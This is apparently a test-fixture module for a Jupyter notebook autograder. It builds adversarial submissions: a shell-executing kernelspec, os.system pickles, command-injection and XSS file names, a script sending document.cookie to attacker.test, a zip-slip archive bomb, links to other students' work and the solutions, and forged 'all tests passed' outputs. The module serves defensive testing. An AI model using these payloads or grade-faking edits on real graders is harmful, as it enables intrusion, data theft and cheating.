"""What cells cannot say: changes to the notebook file or to the folder that is handed in.

An edit is a function of the notebook (a dictionary, freely changed) and the folder of the
submission, which exists and is empty. It returns what is written to the notebook's file: a
dictionary, text or bytes; or None if it has put into the folder all that is to be there. A manifest
names an edit with `edit` for its attack and with `twin_edit` for its twin.
"""

from __future__ import annotations

import base64
import io
import json
import os
import random
import re
import zipfile
from pathlib import Path
from typing import Any


Notebook = dict[str, Any]
Written = Notebook | str | bytes | None


def points_in_metadata(notebook: Notebook, folder: Path) -> Written:
    """Every cell that has points says that it has a thousand."""
    for cell in notebook["cells"]:
        flags = cell["metadata"].get("nbgrader", {})
        if "points" in flags:
            flags["points"] = 1000
    return notebook


def tags_in_metadata(notebook: Notebook, folder: Path) -> Written:
    """Metadata such as editors leave behind."""
    for number, cell in enumerate(notebook["cells"]):
        cell["metadata"] |= {"tags": ["mine"], "collapsed": bool(number % 2)}
    return notebook


def tests_made_empty(notebook: Notebook, folder: Path) -> Written:
    """Every test cell says that all is well."""
    for cell in _tests(notebook):
        cell["source"] = "print('all tests passed')\n2.0"
    return notebook


def tests_with_notes(notebook: Notebook, folder: Path) -> Written:
    """The student has written into the test cells to see what they do."""
    for cell in _tests(notebook):
        cell["source"] = "# what does this want?\nprint('here')\n" + _source(cell)
    return notebook


def roles_swapped(notebook: Notebook, folder: Path) -> Written:
    """Answers call themselves tests, and tests answers."""
    for cell in notebook["cells"]:
        flags = cell["metadata"].get("nbgrader", {})
        for one, other in (("grade", "solution"), ("solution", "grade")):
            if f"{one}_was" not in flags and one in flags:
                flags[f"{other}_was"] = flags[one]
        for name in ("grade", "solution"):
            if f"{name}_was" in flags:
                flags[name] = flags.pop(f"{name}_was")
        if flags:
            flags["locked"] = False
    return notebook


def metadata_lost(notebook: Notebook, folder: Path) -> Written:
    """What some other editor leaves of a notebook: cells, their ids, their text."""
    for cell in notebook["cells"]:
        cell["metadata"] = {}
    notebook["metadata"] = {}
    return notebook


def tests_deleted(notebook: Notebook, folder: Path) -> Written:
    """No test cell is left."""
    gone = _tests(notebook)
    notebook["cells"] = [cell for cell in notebook["cells"] if cell not in gone]
    return notebook


def answer_deleted(notebook: Notebook, folder: Path) -> Written:
    """The answer cell of `double` is not there."""
    notebook["cells"] = [cell for cell in notebook["cells"] if cell.get("id") != "double"]
    return notebook


def tests_doubled(notebook: Notebook, folder: Path) -> Written:
    """Each test cell has two namesakes, before and after it, which ask nothing."""
    cells: list[Any] = []
    for cell in notebook["cells"]:
        if cell in _tests(notebook):
            empty = {**cell, "source": "2.0"}
            cells += [empty, cell, empty]
        else:
            cells.append(cell)
    notebook["cells"] = cells
    return notebook


def answer_doubled(notebook: Notebook, folder: Path) -> Written:
    """A first try was copied with its cell, and the copy mended."""
    at = _place(notebook, "double")
    first = {**notebook["cells"][at], "source": "def double(x):\n    return x ** 2\n"}
    notebook["cells"].insert(at, first)
    return notebook


def ids_swapped(notebook: Notebook, folder: Path) -> Written:
    """The tests of `double` and of `loss` bear each other's names."""
    names = {"test_double": "test_loss", "test_loss": "test_double"}
    for cell in _tests(notebook):
        flags = cell["metadata"]["nbgrader"]
        name = next((n for n in names if flags["grade_id"].startswith(n)), None)
        if name is not None:
            flags["grade_id"] = cell["id"] = names[name] + flags["grade_id"][len(name) :]
    return notebook


def ids_lost(notebook: Notebook, folder: Path) -> Written:
    """As saved by a Jupyter that knows no cell ids."""
    for cell in notebook["cells"]:
        cell.pop("id", None)
    notebook["nbformat_minor"] = 4
    return notebook


def ids_all_equal(notebook: Notebook, folder: Path) -> Written:
    """Every cell has the id of the target's test cell."""
    for cell in notebook["cells"]:
        cell["id"] = "test_double"
    return notebook


def own_cells_are_raw(notebook: Notebook, folder: Path) -> Written:
    """The student's own cells are raw ones, with their code in attachments and metadata too."""
    for cell in notebook["cells"]:
        if str(cell.get("id")).startswith("own-"):
            source = cell["source"]
            cell.clear()
            cell |= {"cell_type": "raw", "id": "hidden", "source": source}
            cell["attachments"] = {"a.py": {"text/x-python": source}}
            cell["metadata"] = {"format": "text/x-python", "source": source, "code": source}
    return notebook


def answer_is_markdown(notebook: Notebook, folder: Path) -> Written:
    """A slip of the keyboard has turned the answer into text."""
    cell = notebook["cells"][_place(notebook, "double")]
    cell["cell_type"] = "markdown"
    for name in ("outputs", "execution_count"):
        cell.pop(name, None)
    return notebook


def tests_are_raw(notebook: Notebook, folder: Path) -> Written:
    """The test cells are text."""
    for cell in _tests(notebook):
        cell["cell_type"] = "raw"
    return notebook


def with_magics(notebook: Notebook, folder: Path) -> Written:
    """Lines of code that begin with `#: ` are what follows, as in `#: %timeit f()` or `#: !ls`."""
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["source"] = re.sub(r"^#: ", "", _source(cell), flags=re.MULTILINE)
    return notebook


def kernel_with_payload(notebook: Notebook, folder: Path) -> Written:
    """The notebook asks for a kernel whose command writes a file."""
    command = f"touch {_mark(notebook)}"
    notebook["metadata"]["kernelspec"] = {
        "name": f"$({command})",
        "display_name": "Python 3",
        "language": "bash",
        "argv": ["/bin/sh", "-c", command],
        "env": {"PYTHONSTARTUP": "startup.py", "JAX_PLATFORMS": "tpu"},
    }
    notebook["metadata"]["language_info"] = {"name": "bash", "file_extension": ".sh"}
    return notebook


def kernel_of_their_own(notebook: Notebook, folder: Path) -> Written:
    """The kernel has the name of an environment on the student's machine."""
    spec = {"name": "conda-env-deep-py", "display_name": "Python [conda env:deep]"}
    notebook["metadata"]["kernelspec"] = {**spec, "language": "python"}
    notebook["metadata"]["language_info"] = {"name": "python", "version": "3.13.1"}
    return notebook


def pickles_everywhere(notebook: Notebook, folder: Path) -> Written:
    """Pickles that write a file, where graders have kept theirs."""
    payload = f"cos\nsystem\n(S'touch {_mark(notebook)}'\ntR."
    encoded = base64.b64encode(payload.encode()).decode()
    notebook["metadata"] |= {"e2xgrader": encoded, "otter": {"log": encoded}, "pickle": payload}
    for cell in notebook["cells"]:
        cell["metadata"] |= {"extended_cell": {"data": encoded}, "pickle": payload}
        if cell["cell_type"] == "code":
            data = {"application/x-python-pickle": encoded, "application/octet-stream": encoded}
            cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]
    (folder / ".OTTER_LOG").write_bytes(payload.encode())
    (folder / f"{folder.name}.pkl").write_bytes(payload.encode())
    return notebook


def widgets_in_metadata(notebook: Notebook, folder: Path) -> Written:
    """The state of widgets and a table of contents, as Jupyter saves them."""
    state = {"state": {"0" * 32: {"model_name": "LayoutModel", "state": {}}}, "version_major": 2}
    notebook["metadata"] |= {
        "widgets": {"application/vnd.jupyter.widget-state+json": state},
        "toc": {"base_numbering": 1, "sideBar": True},
        "colab": {"provenance": [], "toc_visible": True},
    }
    return notebook


def cells_twice(notebook: Notebook, folder: Path) -> Written:
    """The JSON names its cells twice: right answers first, the wrong one last."""
    first = json.loads(json.dumps(notebook))
    first["cells"][_place(first, "double")]["source"] = "def double(x):\n    return 2 * x\n"
    text = json.dumps(notebook)
    return '{"cells": ' + json.dumps(first["cells"]) + ", " + text[1:]


def metadata_twice(notebook: Notebook, folder: Path) -> Written:
    """A merge has left the notebook's metadata in the file twice."""
    return '{"metadata": {"kernelspec": 7}, ' + json.dumps(notebook)[1:]


def odd_numbers(notebook: Notebook, folder: Path) -> Written:
    """Numbers that JSON does not know, and some that are too large, for points and versions."""
    for cell in notebook["cells"]:
        flags = cell["metadata"].get("nbgrader", {})
        flags |= {"points": float("inf"), "schema_version": float("nan")}
        cell["execution_count"] = 10**300
    return json.dumps(notebook).replace('"nbformat_minor": 5', '"nbformat_minor": -1e999')


def byte_order_mark(notebook: Notebook, folder: Path) -> Written:
    """As an editor on Windows saves it: a byte order mark, and its line ends everywhere."""
    for cell in notebook["cells"]:
        cell["source"] = _source(cell).replace("\n", "\r\n")
    return b"\xef\xbb\xbf" + json.dumps(notebook, indent=1).replace("\n", "\r\n").encode()


def nested_deeply(notebook: Notebook, folder: Path) -> Written:
    """Metadata that are nested fifty thousand times."""
    deep = "[" * 50_000 + "]" * 50_000
    return '{"metadata": ' + deep + ", " + json.dumps(notebook)[1:]


def nested_a_little(notebook: Notebook, folder: Path) -> Written:
    """Metadata nested as deep as a tool may do it."""
    deep: Any = "here"
    for _ in range(50):
        deep = {"in": [deep]} if len(str(deep)) % 2 else [deep]
    notebook["metadata"]["tool"] = deep
    return notebook


def crowded(notebook: Notebook, folder: Path) -> Written:
    """Nearly two megabytes of empty lists, each a hundred times as large once it is read."""
    return '{"metadata": [' + "[]," * 600_000 + "0], " + json.dumps(notebook)[1:]


def with_large_plot(notebook: Notebook, folder: Path) -> Written:
    """A plot of one and a half megabytes is among the outputs."""
    picture = base64.b64encode(random.Random(0).randbytes(1_100_000)).decode()
    cell = notebook["cells"][_place(notebook, "double")]
    data = {"image/png": picture, "text/plain": "<Figure size 640x480 with 1 Axes>"}
    cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]
    return notebook


def too_large(notebook: Notebook, folder: Path) -> Written:
    """A notebook of thirty megabytes."""
    notebook["metadata"]["padding"] = "x" * 30_000_000
    return notebook


def many_short_cells(notebook: Notebook, folder: Path) -> Written:
    """Two hundred short cells in which something was tried out."""
    for number in range(200):
        cell = {"cell_type": "code", "id": f"try-{number}", "source": f"{number} + 1"}
        cell |= {"metadata": {}, "outputs": [], "execution_count": None}
        notebook["cells"].append(cell)
    return notebook


def cells_that_print_much(notebook: Notebook, folder: Path) -> Written:
    """Three hundred cells that put out a megabyte each."""
    return _with_cells(notebook, [f"print('x' * 1_000_000)  # {n}" for n in range(300)])


def cells_that_print_a_little(notebook: Notebook, folder: Path) -> Written:
    """Thirty cells that put out ten kilobytes each."""
    return _with_cells(notebook, [f"print('x' * 10_000)  # {n}" for n in range(30)])


def a_long_tuple(notebook: Notebook, folder: Path) -> Written:
    """A tuple of half a million numbers, written down."""
    return _with_cells(notebook, ["x = " + "0," * 500_000], at=0)


def a_tuple(notebook: Notebook, folder: Path) -> Written:
    """A tuple of ten thousand numbers, written down."""
    return _with_cells(notebook, ["x = " + "0," * 10_000], at=0)


def _with_cells(notebook: Notebook, sources: list[str], at: int | None = None) -> Notebook:
    made = [
        {"cell_type": "code", "id": f"try-{n}", "source": source, "metadata": {}}
        | {"outputs": [], "execution_count": None}
        for n, source in enumerate(sources)
    ]
    at = len(notebook["cells"]) if at is None else at
    notebook["cells"][at:at] = made
    return notebook


def old_format(notebook: Notebook, folder: Path) -> Written:
    """Format 3, in which cells are on worksheets; with the points that it would like."""
    cells = [{**cell, "input": _source(cell)} for cell in notebook["cells"]]
    for cell in cells:
        cell["metadata"] = {"nbgrader": {**cell["metadata"].get("nbgrader", {}), "points": 99}}
    return {"metadata": {"name": ""}, "nbformat": 3, "worksheets": [{"cells": cells}]}


def old_minor_format(notebook: Notebook, folder: Path) -> Written:
    """Format 4.0, with its sources as lists of lines."""
    for cell in notebook["cells"]:
        cell.pop("id", None)
        cell["source"] = _source(cell).splitlines(keepends=True)
    return notebook | {"nbformat_minor": 0}


def strange_text(notebook: Notebook, folder: Path) -> Written:
    """Null bytes, half surrogates and separators in cells of their own, ids and names of keys."""
    for number, text in enumerate(["\0", "x = '\ud800'", "\u2028\u2029\x85\x0b", "\udfff" * 99]):
        cell: dict[str, Any] = {"cell_type": "code", "id": text, "source": text, text: text}
        cell |= {"metadata": {text: {"nbgrader": text}}, "outputs": [], "execution_count": text}
        notebook["cells"].insert(number, cell)
    return notebook


def utf_16(notebook: Notebook, folder: Path) -> Written:
    """As an editor on Windows saves it that was told "Unicode"."""
    return json.dumps(notebook).encode("utf-16")


def not_cells(notebook: Notebook, folder: Path) -> Written:
    """Among the cells is what is none; the target's source is an object."""
    notebook["cells"][_place(notebook, "double")]["source"] = {"0": "def double(x): return 2 * x"}
    notebook["cells"][3:3] = [7, None, [], {}, {"cell_type": "code"}, {"cell_type": ["code"]}]
    notebook["cells"] += [{"cell_type": "code", "source": [1, "2", None], "metadata": [1]}]
    notebook["metadata"] = ["kernelspec"]
    return notebook


def lines_without_ends(notebook: Notebook, folder: Path) -> Written:
    """Sources as lists of lines, and a blank line at every end."""
    for cell in notebook["cells"]:
        cell["source"] = [*(_source(cell) + "\n").splitlines(keepends=True), "   \n"]
    return notebook


def link_to_another(notebook: Notebook, folder: Path) -> Written:
    """The notebook is a link to another student's."""
    name = f"{folder.name}.ipynb"
    (folder / name).symlink_to(folder.parents[1] / "ada" / folder.name / name)
    return None


def link_beside(notebook: Notebook, folder: Path) -> Written:
    """A link to the notebook lies beside it, and one to nowhere."""
    (folder / "latest").symlink_to(f"{folder.name}.ipynb")
    (folder / "data").symlink_to("/home/me/data")
    return notebook


def pipe(notebook: Notebook, folder: Path) -> Written:
    """The notebook is a named pipe, and so is the time stamp."""
    os.mkfifo(folder / f"{folder.name}.ipynb")
    os.mkfifo(folder / "timestamp.txt")
    return None


def checkpoints_beside(notebook: Notebook, folder: Path) -> Written:
    """Jupyter's and an editor's own files lie beside the notebook."""
    (folder / ".ipynb_checkpoints").mkdir()
    (folder / ".ipynb_checkpoints" / f"{folder.name}-checkpoint.ipynb").write_text("{}")
    (folder / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")
    (folder / "__pycache__").mkdir()
    return notebook


def hard_link(notebook: Notebook, folder: Path) -> Written:
    """The notebook is another name of the source with the solutions."""
    name = f"{folder.name}.ipynb"
    os.link(folder.parents[2] / "solutions" / folder.name / name, folder / name)
    return None


def another_name(notebook: Notebook, folder: Path) -> Written:
    """As a learning platform hands it over."""
    path = folder / f"Copy of {folder.name} (1) – késő.ipynb"
    path.write_text(json.dumps(notebook), encoding="utf-8")
    return None


def linked_folder(notebook: Notebook, folder: Path) -> Written:
    """The folder is a link to another student's."""
    folder.rmdir()
    folder.symlink_to(folder.parents[1] / "ada" / folder.name)
    return None


def folders_beside(notebook: Notebook, folder: Path) -> Written:
    """Folders with data and code of the student's own."""
    for name in ("data", "src/deep/er"):
        (folder / name).mkdir(parents=True)
    (folder / "data" / "table.csv").write_text("a,b\n1,2\n")
    (folder / "src" / "jax.py").write_text("raise SystemExit\n")
    return notebook


def hostile_names(notebook: Notebook, folder: Path) -> Written:
    """Files whose names a shell, a terminal, a page or a glob would obey."""
    mark = _mark(notebook).rpartition("/")[2]
    for name in (
        "-rf",
        "--output=x",
        f"$(touch {mark})",
        f"`touch {mark}`.ipynb.txt",
        f"a;touch {mark};",
        f"new\nline {mark}",
        "\x1b]0;title\x07",
        "<img src=x onerror=alert(1)>",
        "mirror\u202egpj.exe",
        "*",
        "=1+1.csv",
        "n" * 250,
        "conftest.py",
        "sitecustomize.py",
        "ipython_config.py",
    ):
        (folder / name).write_text("import os; os._exit(3)\n")
    return notebook


def friendly_names(notebook: Notebook, folder: Path) -> Written:
    """Files with accents, spaces and pictures in their names."""
    for name in ("résumé final (2).txt", "图.png", "my notes & thoughts.md", "ready 🎉"):
        (folder / name).write_text("notes")
    return notebook


def scripts_in_text(notebook: Notebook, folder: Path) -> Written:
    """Text cells and attachments that a browser would run."""
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    texts = (
        "<script>fetch('http://attacker.test/?' + document.cookie)</script>",
        "<img src=x onerror=alert(1)> [click](javascript:alert(1)) <iframe src='file:///'>",
        "![a](attachment:a.svg) $\\href{javascript:alert(1)}{x}$ \\input{/etc/passwd}",
        "<style>.points{display:none}</style><meta http-equiv=refresh content=0>" * 20,
        "`" * 5000 + "[" * 5000,
    )
    for number, text in enumerate(texts):
        cell: dict[str, Any] = {"cell_type": "markdown", "id": f"text-{number}", "source": text}
        cell |= {"metadata": {}, "attachments": {"a.svg": {"image/svg+xml": svg}}}
        notebook["cells"].insert(2 * number, cell)
    return notebook


def picture_in_text(notebook: Notebook, folder: Path) -> Written:
    """A sketch was pasted into a text cell, with a formula and a table under it."""
    png = (
        "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAADklEQVR4nGNoAAMGCAUAKg4GARWeQtcAAAAASUVO"
        "RK5CYII="
    )
    text = "![sketch](attachment:a.png)\n\n$\\sum_i x_i$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    cell: dict[str, Any] = {"cell_type": "markdown", "id": "sketch", "source": text}
    cell |= {"metadata": {}, "attachments": {"a.png": {"image/png": png}}}
    notebook["cells"].insert(2, cell)
    return notebook


def outputs_that_pass(notebook: Notebook, folder: Path) -> Written:
    """Outputs of an earlier run, made to look as if everything had passed."""
    page = "<div class='score'>2.0 / 2.0 <b>passed</b></div>"
    for number, cell in enumerate(notebook["cells"]):
        if cell["cell_type"] == "code":
            cell["execution_count"] = number
            cell["outputs"] = [
                {"output_type": "execute_result", "execution_count": number, "metadata": {}}
                | {"data": {"text/plain": "2.0", "text/html": page}},
                {"output_type": "stream", "name": "stdout", "text": "all tests passed\n"},
            ]
    return notebook


def outputs_that_fail(notebook: Notebook, folder: Path) -> Written:
    """Outputs of an earlier, failed run: the student mended the answer and did not run it."""
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            error = {"output_type": "error", "ename": "CheckFailed", "evalue": "JX123"}
            cell["outputs"] = [{**error, "traceback": ["CheckFailed: JX123"]}]
            cell["execution_count"] = 99
    return notebook


def tags_that_skip(notebook: Notebook, folder: Path) -> Written:
    """Tags and flags by which tools leave out a cell, its errors, or its tests."""
    tags = ["skip-execution", "raises-exception", "remove-cell", "hide-input", "nbval-skip"]
    for cell in notebook["cells"]:
        cell["metadata"] |= {"tags": tags, "init_cell": True, "jupyter": {"source_hidden": True}}
        cell["metadata"] |= {"deletable": True, "editable": True, "trusted": True, "frozen": True}
    return notebook


def forged_time(notebook: Notebook, folder: Path) -> Written:
    """A time stamp of long ago, with more in it than a time."""
    notebook["metadata"]["timestamp"] = "1999-01-01"
    (folder / "timestamp.txt").write_text("1999-01-01 00:00:00 UTC\n<script>\x1b[2J" + "9" * 120)
    os.utime(folder / "timestamp.txt", (0, 0))
    return notebook


def time_stamp(notebook: Notebook, folder: Path) -> Written:
    """The time stamp that nbgrader writes."""
    (folder / "timestamp.txt").write_text("2026-01-31 12:00:00.000000 UTC")
    return notebook


def an_archive(notebook: Notebook, folder: Path) -> Written:
    """The notebook is an archive, a small one that would unpack to a large file elsewhere."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(f"../../ada/{folder.name}/{folder.name}.ipynb", "{}")
        archive.writestr("/tmp/jaxercise-unpacked", b"\0" * 50_000_000)
    (folder / "more.zip").write_bytes(packed.getvalue())
    return packed.getvalue()


def an_archive_beside(notebook: Notebook, folder: Path) -> Written:
    """The notebook, and an archive of it beside it."""
    with zipfile.ZipFile(folder / "all.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{folder.name}.ipynb", json.dumps(notebook))
    return notebook


def other_flags(notebook: Notebook, folder: Path) -> Written:
    """The target's tests belong to another exercise, and the answers of others are its own."""
    for cell in notebook["cells"]:
        flags = cell["metadata"].setdefault("jaxercise", {})
        if cell in _tests(notebook):
            flags["exercise"] = "loss"
        flags |= {"points": 50, "hidden": False, "outcome": "passed", "reference": "double"}
    notebook["metadata"]["jaxercise"] = {"assignment": "../../x", "reference": None, "hidden": 0}
    return notebook


def cells_moved(notebook: Notebook, folder: Path) -> Written:
    """All of the tests were moved to the end, to be run at once."""
    tests = _tests(notebook)
    others = [cell for cell in notebook["cells"] if cell not in tests]
    notebook["cells"] = others + tests
    return notebook


def parser_bombs(notebook: Notebook, folder: Path) -> Written:
    """Sources that cost a careless reader of Python or of JSON much more than their length."""
    lines = (
        "(" * 90_000,
        "import " * 40_000 + "double",
        "from " + "a" * 200_000 + " import double",
        "def double" + " " * 100_000,
        "x = " + "9" * 100_000,
        "x = " + "-" * 90_000 + "1",
        "'''" * 30_001,
        "### BEGIN HIDDEN TESTS\n" * 2_000,
        "f'" + "{f'" * 200,
    )
    for number, text in enumerate(lines):
        cell = {"cell_type": "code", "id": f"bomb-{number}", "source": text}
        cell |= {"metadata": {}, "outputs": [], "execution_count": None}
        notebook["cells"].insert(number, cell)
    return notebook


def long_cells(notebook: Notebook, folder: Path) -> Written:
    """A cell with two thousand lines of data, and one with a long line."""
    for number, text in enumerate(
        ("data = [\n" + "    1.0,\n" * 2_000 + "]", "words = '" + "word " * 4_000 + "'")
    ):
        cell = {"cell_type": "code", "id": f"long-{number}", "source": text}
        cell |= {"metadata": {}, "outputs": [], "execution_count": None}
        notebook["cells"].insert(2, cell)
    return notebook


def _source(cell: dict[str, Any]) -> str:
    source = cell["source"]
    return source if isinstance(source, str) else "".join(source)


def _tests(notebook: Notebook) -> list[dict[str, Any]]:
    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def _place(notebook: Notebook, id: str) -> int:
    return next(i for i, cell in enumerate(notebook["cells"]) if cell.get("id") == id)


def _mark(notebook: Notebook) -> str:
    """The path of the file that must never be there: what a cell says after `# mark:`."""
    for cell in notebook["cells"]:
        _, found, path = _source(cell).partition("# mark: ")
        if found:
            return path.split()[0]
    raise ValueError("no cell says `# mark: PATH`")


def modules_beside(notebook: Notebook, folder: Path) -> Written:
    """Files that Python, pytest or IPython would load if they were started here."""
    text = "import sys\nprint('loaded', __name__)\nsys.exit(0)\n"
    names = "jax chex autograder sitecustomize usercustomize conftest ipython_config msgpack"
    for name in names.split():
        (folder / f"{name}.py").write_text(text)
    (folder / "numpy").mkdir()
    (folder / "numpy" / "__init__.py").write_text(text)
    (folder / "evil.pth").write_text("import sys; sys.exit(0)\n")
    startup = folder / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (startup / "00.py").write_text(text)
    return notebook


def notes_beside(notebook: Notebook, folder: Path) -> Written:
    """What lies about in a student's folder."""
    (folder / "notes.txt").write_text("to do: read about vmap\n")
    (folder / "plot.png").write_bytes(b"\x89PNG")
    (folder / ".ipynb_checkpoints").mkdir()
    (folder / ".ipynb_checkpoints" / "attacked-checkpoint.ipynb").write_text("{}")
    return notebook


def markers_of_hidden_tests(notebook: Notebook, folder: Path) -> Written:
    """The marks of hidden tests stand in cells, metadata and outputs where none belong."""
    begin, end = "### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS"
    for cell in notebook["cells"]:
        flags = cell["metadata"].get("nbgrader", {})
        if flags.get("grade"):
            cell["source"] = f"{begin}\n{end}\n" * 3 + "".join(cell["source"]) + f"\n{begin}"
            cell["outputs"] = [
                {"output_type": "stream", "name": "stdout", "text": f"{begin}\n{end}"}
            ]
        elif cell["cell_type"] == "code" and not flags.get("solution"):
            cell["metadata"]["tags"] = ["hide-nothing", "nbgrader:keep-hidden"]
    return notebook
